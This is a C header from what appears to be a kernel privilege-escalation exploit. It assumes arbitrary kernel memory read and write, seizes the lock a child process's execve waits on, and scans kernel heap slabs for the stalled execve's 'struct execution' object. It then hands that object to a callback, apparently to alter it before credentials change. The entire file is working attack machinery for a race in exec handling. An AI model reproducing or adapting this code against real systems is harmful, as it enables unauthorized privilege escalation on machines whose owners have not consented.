/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * execution.h - an execve of the attacker's, held between the mapping of the program and the change
 * of credentials: the attacker takes a lock of the process that it waits for, finds what the kernel
 * keeps of the execve, and gives the lock back.
 */
#pragma once
#include "set_id.h"

#define SLAB_SIZE 128 /* of a descriptor */
#define HOLDER 1      /* CPU 0 */

static inline bool is_named(uint64_t cache, const char *name)
{
	const uint64_t at = peek(cache + member("heap_cache.name"));
	uint64_t i = 0;

	while (name[i] && peek8(at + i) == (uint8_t)name[i])
		i++;
	return peek8(at + i) == (uint8_t)name[i];
}

/* TASK's execve waits for it. */
static inline uint64_t execve_lock(uint64_t task)
{
	return peek(task + member("task.process")) + member("process.signal_lock") +
	       member("spin_lock.holder");
}

/* In the objects of one slab: the one whose word at FIRST is set. 0: there is none. */
static inline uint64_t execution_in(uint64_t slab, uint64_t cache, uint64_t first)
{
	const uint64_t base = peek(slab + member("heap_slab.base"));
	const uint64_t stride = peek32(cache + member("heap_cache.stride"));
	const uint64_t slots = peek32(cache + member("heap_cache.slots"));

	for (uint64_t i = 0; i < slots; i++)
		if (peek(base + i * stride + first))
			return base + i * stride;
	return 0;
}

/* The struct execution whose word at FIRST is set; free ones are all zero. */
static inline uint64_t find_execution_with(uint64_t first)
{
	const uint64_t slabs = peek(symbol("heap_slabs_base"));
	const uint64_t count = peek32(symbol("heap_slab_count"));

	for (uint64_t i = 1; i < count; i++) {
		const uint64_t slab = slabs + i * SLAB_SIZE;
		const uint64_t cache = peek(slab + member("heap_slab.cache"));
		uint64_t found = 0;

		if (cache && is_named(cache, "struct execution"))
			found = execution_in(slab, cache, first);
		if (found)
			return found;
	}
	return 0;
}

/* That of an execve that has mapped its program. */
static inline uint64_t find_execution(void)
{
	return find_execution_with(member("execution.start") + member("program_start.first"));
}

#define ENVIRONMENT_MAX 64
static const char *environment[ENVIRONMENT_MAX + 1]; /* of the program */

static inline void nothing_more(void)
{
}

/*
 * Executes PATH in a child on CPU 1; HELD while it waits, FREED when it goes on. Its status. The
 * child shares descriptors: when it has its own, all that is sealed before the lock is sealed.
 */
static inline int execute_changed(const char *path, void (*held)(uint64_t execution),
				  void (*freed)(void))
{
	uint64_t lock, execution = 0;
	long child;

	(void)own_cpu(0);
	child = start_waiting(CLONE_FILES, path, environment, 1);
	lock = execve_lock(child_task(own_task(), child));
	poke_sized(lock, HOLDER, 2);
	start_go();
	await((execution = find_execution()) != 0);
	await(peek(execution + member("execution.files")) != 0);
	held(execution);
	poke_sized(lock, 0, 2);
	freed();
	return wait_program(child);
}
